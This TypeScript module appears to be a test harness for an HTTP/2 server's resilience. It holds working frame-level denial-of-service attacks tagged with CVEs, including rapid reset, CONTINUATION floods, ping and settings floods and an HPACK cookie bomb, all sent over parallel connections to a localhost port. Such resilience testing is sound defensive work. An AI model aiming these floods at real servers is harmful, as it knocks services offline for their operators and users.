// What a client that means harm does with HTTP/2 (RFC 9113), frame by frame: a library would not send it. Each attack is what one connection says; it is
// said again on a new one whenever the other side ends it, until so many frames were sent.
import { connect, type Socket } from 'node:net';
import { FLAG, FRAME, FrameReader, frameOf, headerBlock, literal, PREFACE, prefixed } from './malformed/h2-frames.ts';

/** Frames that go into one write. */
const TOGETHER = 50;
/** A connection that takes nothing for so long is not read any more. */
const STUCK_MS = 1_000;

const u32 = (...values: readonly number[]): Buffer => {
  const out = Buffer.alloc(4 * values.length);
  for (const [at, value] of values.entries()) out.writeUInt32BE(value, 4 * at);
  return out;
};

/** A request's fields: `GET path` of `host` over http. */
const request = (host: string, path: string, method = 'GET'): Buffer =>
  headerBlock([
    [':method', method],
    [':scheme', 'http'],
    [':path', path],
    [':authority', host],
  ]);
/** Of `cookie` in HPACK's static table. */
const COOKIE = 32;
const WHOLE = FLAG.endHeaders | FLAG.endStream;

export interface H2Attack {
  /** Whether it reads what comes, and answers pings. */
  readonly reads: boolean;
  /** As how many frames each counts, for ones that are long. */
  readonly cost?: number;
  /** What is said once, after the connection's preface. */
  readonly first?: (host: string) => Buffer;
  /** What is said over and over; `n` counts from 0 on each connection. */
  readonly again: (n: number, host: string) => Buffer;
}

const SETTING_INITIAL_WINDOW = Buffer.concat([Buffer.from([0, 4]), u32(0)]);
const odd = (n: number): number => 2 * n + 1;

/** The attacks by name; CVE numbers are of the first implementations that fell. */
export const H2_ATTACKS: Readonly<Record<string, H2Attack>> = {
  /** CVE-2023-44487: requests that are taken back at once. */
  'rapid reset': {
    reads: true,
    again: (n, host) => Buffer.concat([frameOf(FRAME.headers, WHOLE, odd(n), request(host, '/delay/50')), frameOf(FRAME.reset, 0, odd(n), u32(8))]),
  },
  /** CVE-2025-8671: the server is made to take them back. */
  'made you reset': {
    reads: true,
    again: (n, host) => Buffer.concat([frameOf(FRAME.headers, WHOLE, odd(n), request(host, '/delay/50')), frameOf(FRAME.windowUpdate, 0, odd(n), u32(0))]),
  },
  /** CVE-2024-27316: a head that does not end. */
  'continuation without end': {
    reads: true,
    first: (host) => frameOf(FRAME.headers, 0, 1, request(host, '/')),
    again: (n) => frameOf(FRAME.continuation, 0, 1, headerBlock([[`x-${n}`, 'a'.repeat(4000)]])),
  },
  'empty continuation': { reads: true, first: (host) => frameOf(FRAME.headers, 0, 1, request(host, '/')), again: () => frameOf(FRAME.continuation, 0, 1) },
  /** CVE-2019-9515 and -9512: each wants an answer that nobody reads. */
  settings: { reads: false, again: () => frameOf(FRAME.settings, 0, 0, SETTING_INITIAL_WINDOW) },
  ping: { reads: false, again: () => frameOf(FRAME.ping, 0, 0, Buffer.alloc(8)) },
  /** CVE-2019-9518. */
  'empty data': {
    reads: true,
    first: (host) => frameOf(FRAME.headers, FLAG.endHeaders, 1, request(host, '/', 'POST')),
    again: () => frameOf(FRAME.data, 0, 1),
  },
  /** CVE-2019-9513. */
  priority: { reads: true, again: (n) => frameOf(FRAME.priority, 0, odd(n % 50), Buffer.concat([u32(odd((n + 7) % 50)), Buffer.from([n % 256])])) },
  'window by one byte': {
    reads: true,
    first: (host) => frameOf(FRAME.headers, FLAG.endHeaders, 1, request(host, '/', 'POST')),
    again: () => frameOf(FRAME.windowUpdate, 0, 1, u32(1)),
  },
  /** One cookie of 3.5 kB is said once, then named by a byte, thousands of times in each head (CVE-2026-47774). */
  'cookie bomb': {
    reads: true,
    cost: 20,
    first: (host) => frameOf(FRAME.headers, WHOLE, 1, Buffer.concat([request(host, '/'), prefixed(6, 0x40, COOKIE), literal(`a=${'b'.repeat(3500)}`)])),
    again: (n, host) => frameOf(FRAME.headers, WHOLE, odd(n + 1), Buffer.concat([request(host, '/'), Buffer.alloc(15_000, 0x80 | 62)])),
  },
};

/** CVE-2019-9517: large answers are asked for and not taken, by a client that is otherwise well. */
export const UNREAD: H2Attack = {
  reads: true,
  first: () => frameOf(FRAME.settings, 0, 0, SETTING_INITIAL_WINDOW),
  again: (n, host) => frameOf(FRAME.headers, WHOLE, odd(n), request(host, '/bytes/5000000')),
};

export interface H2Outcome {
  /** Frames that the system took for the other side. */
  readonly frames: number;
  readonly connections: number;
  /** How many of them the other side ended. */
  readonly ended: number;
}

export interface H2Strength {
  /** Frames in all, and at most so many on one connection. */
  readonly frames: number;
  readonly each: number;
  /** Connections at a time. */
  readonly width: number;
  /** Looks at the attack while it stands; then it is let go. */
  readonly until: () => Promise<void>;
}

/** Answers each PING, so that the other side takes it for alive. */
function answerPings(socket: Socket): void {
  const frames = new FrameReader();
  socket.on('data', (bytes: Buffer) => {
    for (const { type, flags, body } of frames.read(bytes)) if (type === FRAME.ping && flags === 0) socket.write(frameOf(FRAME.ping, FLAG.ack, 0, body));
  });
}

/** Says the attack on one connection until `most` frames were taken, the other side ends it, or nothing moves any more; counts frames by `taken`. */
async function assault(attack: H2Attack, socket: Socket, host: string, most: number, taken: (frames: number) => void): Promise<void> {
  if (attack.reads) answerPings(socket);
  socket.write(Buffer.concat([PREFACE, frameOf(FRAME.settings, 0, 0), attack.first?.(host) ?? Buffer.alloc(0)]));
  for (let n = 0; n < most && !socket.destroyed; n += TOGETHER) {
    const now = Math.min(TOGETHER, most - n);
    const bytes = Buffer.concat(Array.from({ length: now }, (_, at) => attack.again(n + at, host)));
    const moved = await new Promise<boolean>((done) => {
      socket.write(bytes, (error) => done(error === undefined || error === null));
      socket.once('close', () => done(false)).once('timeout', () => done(false));
    });
    socket.removeAllListeners('timeout').removeAllListeners('close');
    if (!moved) return;
    taken(now * (attack.cost ?? 1));
  }
}

/** Attacks a plaintext listener; its connections stand until `until`, and what is ended before all frames are said is begun anew. */
export async function attackH2(attack: H2Attack, port: number, host: string, { frames, width, each, until }: H2Strength): Promise<H2Outcome> {
  let sent = 0;
  const held: Socket[] = [];
  const worker = async (): Promise<void> => {
    while (sent < frames) {
      const socket = connect(port, '127.0.0.1').setTimeout(STUCK_MS);
      held.push(socket);
      await new Promise<void>((done) => socket.on('error', () => done()).once('connect', done));
      await assault(attack, socket, host, each, (now) => {
        sent += now;
      });
      // One that takes nothing more is held as it is, beside a new one.
    }
  };
  await Promise.all(Array.from({ length: width }, worker));
  await until();
  const ended = held.filter(({ destroyed, readableEnded }) => destroyed || readableEnded).length;
  for (const socket of held) socket.destroy();
  return { frames: sent, connections: held.length, ended };
}
